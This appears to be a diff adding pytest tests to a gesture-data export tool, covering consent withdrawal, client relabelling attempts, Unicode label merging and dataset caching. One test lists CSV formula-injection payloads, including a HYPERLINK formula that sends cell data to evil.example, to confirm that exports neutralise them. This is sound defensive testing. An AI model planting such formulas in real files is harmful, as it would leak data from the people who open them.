@@ -2,8 +2,12 @@
 
 from __future__ import annotations
 
+import json
 import re
+import unicodedata
+from pathlib import Path
 from typing import Any
+from uuid import uuid4
 
 import datasets
 import pandas as pd
@@ -176,12 +180,106 @@ def test_a_capture_s_own_gesture_comes_before_its_session_s(place: Place) -> Non
     assert table(place).intent.tolist() == ["", "wave", 'say "no", now']
 
 
+@pytest.mark.parametrize("by_client", [True, False])
+@pytest.mark.parametrize("source", ["session_manager", "x"])
+def test_a_client_s_start_relabels_no_session_and_gives_no_consent(
+    place: Place, capsys: pytest.CaptureFixture[str], source: str, by_client: bool
+) -> None:
+    for session in (place.session(training_intent_label="wave"), place.session(device_id="d")):
+        place.capture(session)
+        start = {"event": "session.start", "source": source, "consent_given": True, "is_demo": False}
+        place.say(session, by_client=by_client, **start, training_intent_label="evil")
+        place.say(session, training_intent_label="evil", consent_given=True, capture_id="c")
+        place.capture(session)
+    assert place.export("npy1662") == 0
+    rows = table(place)
+    assert sorted(rows.intent) == ["", "", "wave", "wave"]
+    assert set(rows.consent_given) == set(rows.is_demo) == {""}
+    assert capsys.readouterr().err.count("not heeded") == (2 if by_client else 0)
+
+
+def test_a_start_that_a_client_appended_first_is_none(place: Place) -> None:
+    session = place.session()
+    place.say(session, by_client=True, event="session.start", source="session_manager", training_intent_label="evil")
+    place.say(session, event="session.start", source="session_manager", training_intent_label="wave")
+    place.capture(session)
+    assert place.export("npy1662") == 0
+    assert table(place).intent.tolist() == ["wave"]
+
+
+def test_a_client_s_reference_relabels_no_capture_and_adds_none(
+    place: Place, capsys: pytest.CaptureFixture[str]
+) -> None:
+    session = place.session(training_intent_label="wave")
+    ours, theirs = place.capture(session), str(uuid4())
+    for record in (ours, theirs):
+        place.capture(session, record_id=record, by_client=True, annotation={"intent": "evil"})
+    assert place.export("npy1662") == 0
+    assert table(place)[["record_id", "intent"]].to_numpy().tolist() == [[ours, "wave"]]
+    assert capsys.readouterr().err.count("not heeded") == 2
+
+
+def test_consent_is_withdrawn_whoever_says_so_and_under_whatever_name(place: Place) -> None:
+    session = place.session(consent_given=True)
+    kept, withdrawn = place.capture(session), place.capture(session)
+    names = {"event": "session.start", "source": "session_manager", "raw_features_ref": {}}
+    place.say(session, by_client=True, **names, capture_id=f"c-{withdrawn}", consent_given=False)
+    assert place.export("npy1662") == 0
+    assert table(place).record_id.tolist() == [kept]
+
+
+@pytest.mark.parametrize("empty", ["", " ", "\t\u3000"])
+def test_an_empty_gesture_is_none(place: Place, empty: str) -> None:
+    for session in (place.session(training_intent_label="wave"), place.session(training_intent_label=empty)):
+        place.capture(session, annotation={"intent": empty})
+    assert place.export("gislr") == 0
+    assert sorted(table(place, "gislr").intent) == ["", "wave"]
+    signs = json.loads((place.exports / "gislr/sign_to_prediction_index_map.json").read_bytes())
+    assert signs == {"wave": 0}
+
+
+def test_one_name_is_one_sign_however_it_was_typed(place: Place) -> None:
+    session = place.session(training_intent_label="caf\u00e9")
+    place.capture(session)
+    place.capture(session, annotation={"intent": "cafe\u0301"})
+    assert place.export("gislr") == 0
+    assert set(table(place, "gislr").intent) == {"caf\u00e9"}
+    signs = json.loads((place.exports / "gislr/sign_to_prediction_index_map.json").read_bytes())
+    assert signs == {"caf\u00e9": 0}
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")', "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\u00a0=1",
+    "\ufeff=1", "\u200b=1", "\uff1d1", "\uff0b1", "\uff0d1", "\uff201", "\u22121", "'=1", "x;=1",
+    "x\n=1", "x\t=1", "x;\u200b+1",
+]  # fmt: skip
+
+
+def test_no_cell_is_a_formula_and_the_labels_are_whole_beside_the_tables(place: Place) -> None:
+    session = place.session()
+    for label in FORMULAS:
+        place.capture(session, annotation={"intent": label}, device_id="-1")
+    assert place.export("gislr") == 0
+    folder = place.exports / "gislr"
+    signs = json.loads((folder / "sign_to_prediction_index_map.json").read_bytes())
+    for path, column in (("captures.csv", "intent"), ("train.csv", "sign")):
+        rows = pd.read_csv(folder / path, keep_default_na=False, dtype=str)
+        assert set(rows[column]) == set(signs) and len(rows) == len(FORMULAS)
+        for cell in rows.to_numpy().ravel():
+            for piece in re.split(r"[;\n\t]", cell):
+                first = unicodedata.normalize("NFKC", piece.strip("\u200b\ufeff\u00a0 \r\t\n"))[:1]
+                assert not first or first not in "=+-@\u2212", cell
+            assert cell[:1] not in ("\t", "\r", "\n")
+    documents = [json.loads(path.read_bytes()) for path in (folder / "metadata").iterdir()]
+    assert sorted(document["intent"] for document in documents) == sorted(FORMULAS)
+
+
 def test_any_gesture_s_name_is_one_cell_of_one_row(place: Place) -> None:
-    names = ["a\rb", "a\r\nb", "a\nb", "\r", 'a","b', " a ", "é\u2028"]
+    names = ["a\rb", "a\r\nb", "a\nb", "a\r", 'a","b', " a ", "é\u2028"]
     session = place.session()
     for name in names:
         place.capture(session, annotation={"intent": name})
-    place.say(session, event="session.start", training_intent_label="half of a pair: X")
+    place.say(session, event="session.start", source="session_manager", training_intent_label="half of a pair: X")
     log = place.log(session)
     log.write_bytes(log.read_bytes().replace(b": X", rb": \ud83d"))
     place.capture(session)
@@ -204,6 +302,29 @@ def test_the_same_export_again_is_as_before_and_another_is_refused(
     assert "is there and differs" in capsys.readouterr().out
     assert place.export("hf", replace=True) == 0
     assert len(pd.read_parquet(place.exports / "hf" / "data")) == 2
+
+
+def test_datasets_never_gives_back_the_rows_of_another_or_an_older_export(
+    place: Place, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(datasets.config, "HF_DATASETS_CACHE", tmp_path / "cache")  # one for all, as people have it
+    datasets.disable_progress_bars()
+
+    def loaded() -> list[str]:
+        rows = datasets.load_dataset(str(place.exports / "hf"), split="train")
+        return sorted(str(record) for record in rows["record_id"])
+
+    session, other = place.session(), place.session("zoe")
+    kept, withdrawn = place.capture(session), place.capture(session)
+    theirs = place.capture(other, user_id="zoe")
+    assert place.export("hf", user_id="u1") == 0
+    assert loaded() == sorted([kept, withdrawn])
+    place.say(session, capture_id=f"c-{withdrawn}", consent_given=False)
+    assert place.export("hf", user_id="u1", replace=True) == 0
+    assert loaded() == [kept]
+    place.exports = place.exports.parent / "elsewhere"
+    assert place.export("hf", user_id="zoe") == 0
+    assert loaded() == [theirs]
 
 
 def test_nothing_to_export_leaves_nothing(place: Place, capsys: pytest.CaptureFixture[str]) -> None:
